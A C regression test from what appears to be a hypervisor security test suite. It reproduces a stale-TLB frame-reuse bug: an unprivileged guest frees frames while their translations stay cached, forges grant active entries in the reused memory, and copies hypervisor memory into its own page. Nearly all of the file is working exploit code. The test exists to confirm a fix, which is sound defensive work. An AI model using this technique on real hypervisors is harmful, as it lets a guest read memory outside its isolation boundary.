// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack-stale-tlb: a frame a domain gives up must not be handed out
 * again while a translation to it may still be cached (issue 16, A2).
 * From the unprivileged peer:
 *
 *   1. map NPAIRS pairs of machine-contiguous frames of its own, write a
 *      pattern through them, clear the PTEs with update_va_mapping(va, 0,
 *      0) (no flush: the translations stay in the TLB) and give the frames
 *      back with decrease_reservation;
 *   2. grow its grant table (setup_table 2 frames): the hypervisor
 *      allocates frame 1's active-grant array, which lands in such freed
 *      frames when nothing lower is free;
 *   3. read every old address. A fault or the old pattern is fine; any
 *      other content means a frame was reused with our translation live.
 *      Then it forges active entries there ("ref 512.. pinned at machine
 *      frame 0x200 by us") and copies ref 512 and 640 into a page of its
 *      own: the copy must not deliver the hypervisor image.
 *
 * Before the fix the peer read the reused frames, and the copy brought
 * the hypervisor's multiboot header (0x1badb002) into the peer's page.
 * @domus: self:peer:role=peer
 */
#include "lib/guest.h"
#include "lib/events.h"
#include "lib/mm.h"
#include "lib/peer.h"
#include "lib/traps.h"
#include "lib/peer_verdict.h"
#include <lamina/memory.h>

#define NPAIRS		24
#define PATTERN		0xa5a5a5a5a5a5a5a5ULL
#define FORGED_MFN	0x200ULL
#define PEER_DOMID	1	/* Lamina's first domU: only there can the forgery matter */

static uint64_t va[2 * NPAIRS], mfn[2 * NPAIRS];
static char why[VERDICT_LEN];

/* *p, or false when reading it faults (the translation is gone). */
static bool probe(const volatile uint64_t *p, uint64_t *val)
{
	unsigned int before = traps_taken;
	uint64_t v = 0;

	asm volatile("1: mov (%1), %0\n2:\n"
		     ".pushsection .fixup, \"a\"\n.balign 8\n.quad 1b, 2b\n.popsection"
		     : "+r"(v) : "r"(p) : "memory");
	*val = v;
	return traps_taken == before;
}

/* NPAIRS pairs of consecutive frames among the unmapped pfns, mapped here. */
static int pick_frames(struct start_info *si)
{
	const uint64_t *p2m = (const uint64_t *)si->mfn_list;
	unsigned int n = 0;
	uint64_t pfn;

	for (pfn = 1024; pfn + 1 < si->nr_pages && n < 2 * NPAIRS; pfn += 2) {
		if (p2m[pfn + 1] != p2m[pfn] + 1 && p2m[pfn + 1] + 1 != p2m[pfn])
			continue;	/* Xen hands them out downwards */
		mfn[n] = p2m[pfn];
		mfn[n + 1] = p2m[pfn + 1];
		n += 2;
	}
	return n == 2 * NPAIRS ? 0 : -1;
}

/* Step 1: translations left in the TLB to frames we no longer own. */
static int give_back_with_stale_tlb(void)
{
	struct xen_memory_reservation r = { .extent_start = (uint64_t)mfn, .nr_extents = 2 * NPAIRS,
					    .domid = DOMID_SELF };
	unsigned int i;
	long rc;

	for (i = 0; i < 2 * NPAIRS; i++) {
		va[i] = scratch_page();
		if (update_va_mapping(va[i], (mfn[i] << 12) | PTE_DATA, UVMF_INVLPG))
			return snprintf(why, sizeof(why), "mapping frame %u failed", i), -1;
		*(volatile uint64_t *)va[i] = PATTERN;
		if (update_va_mapping(va[i], 0, 0))
			return snprintf(why, sizeof(why), "clearing PTE %u failed", i), -1;
	}
	rc = hypercall2(__HYPERVISOR_memory_op, XENMEM_decrease_reservation, &r);
	if (rc != 2 * NPAIRS)
		return snprintf(why, sizeof(why), "decrease_reservation gave %ld", rc), -1;
	return 0;
}

/* Step 3b: forged active entries in a reused frame, then copies from them. */
static uint32_t forge_and_copy(void)
{
	uint64_t dest = scratch_page();
	grant_ref_t refs[2] = { 512, 640 };
	unsigned int i, k;

	for (i = 0; i < 2 * NPAIRS; i++) {
		volatile uint64_t *p = (volatile uint64_t *)va[i];
		uint64_t v;

		if (!probe(p, &v) || v == PATTERN)
			continue;
		/*
		 * Lamina's active entry today (grant_table.c): 32 bytes, mfn,
		 * then ro, rw, mapper, start, length. Only the demonstration
		 * depends on it, not the verdict.
		 */
		for (k = 0; k < 512; k += 4) {
			p[k] = FORGED_MFN;
			p[k + 1] = 1 | (uint64_t)PEER_DOMID << 32;	/* ro 1, rw 0, mapper */
			p[k + 2] = 4096;				/* start 0, length */
			p[k + 3] = 0;
		}
	}
	for (i = 0; i < 2; i++) {
		struct gnttab_copy c;

		memset(&c, 0, sizeof(c));
		c.source.u.ref = refs[i];
		c.source.domid = DOMID_SELF;
		c.dest.u.gmfn = va_to_mfn(dest);
		c.dest.domid = DOMID_SELF;
		c.len = 64;
		c.flags = GNTCOPY_source_gref;
		verdict_gnttab(GNTTABOP_copy, &c, 1);
		if (c.status == GNTST_okay)
			return *(volatile uint32_t *)dest;
	}
	return 0;
}

static int attack(struct start_info *si)
{
	uint64_t frames[2] = { 0, 0 };
	struct gnttab_setup_table st = { DOMID_SELF, 0, 2, 0, { 0 }, (uint64_t)frames };
	unsigned int i, gone = 0, intact = 0, reused = 0;
	uint64_t v;

	if (pick_frames(si))
		return snprintf(why, sizeof(why), "no %u pairs of contiguous frames", NPAIRS), -1;
	if (give_back_with_stale_tlb())
		return -1;
	if (verdict_gnttab(GNTTABOP_setup_table, &st, 1) || st.status)
		return snprintf(why, sizeof(why), "setup_table 2 gave %d", st.status), -1;
	for (i = 0; i < 2 * NPAIRS; i++) {
		if (!probe((volatile uint64_t *)va[i], &v))
			gone++;
		else if (v == PATTERN)
			intact++;
		else
			reused++;
	}
	printf("peer: after setup_table: %u translations gone, %u frames untouched, %u reused\n",
	       gone, intact, reused);
	if (reused) {
		uint32_t seen = forge_and_copy();

		return snprintf(why, sizeof(why), "%u freed frames reused under a live translation; "
				"copy through a forged active entry read %#x", reused, seen), -1;
	}
	return 0;
}

static void __attribute__((noreturn)) peer(struct start_info *si)
{
	struct verdict v;

	if (traps_install(false)) {
		printf("peer: no trap table\n");
		shutdown(SHUTDOWN_crash);
	}
	/* Table frame 0 and its active array exist before the attack. */
	verdict_offer_frame0(&v);
	verdict_send(&v, attack(si) ? why : NULL);
}

int test_main(struct start_info *si)
{
	CHECK(events_init(si) == 0, "events_init failed");
	if (!(si->flags & SIF_INITDOMAIN))
		peer(si);
	return verdict_await_peer(si);
}
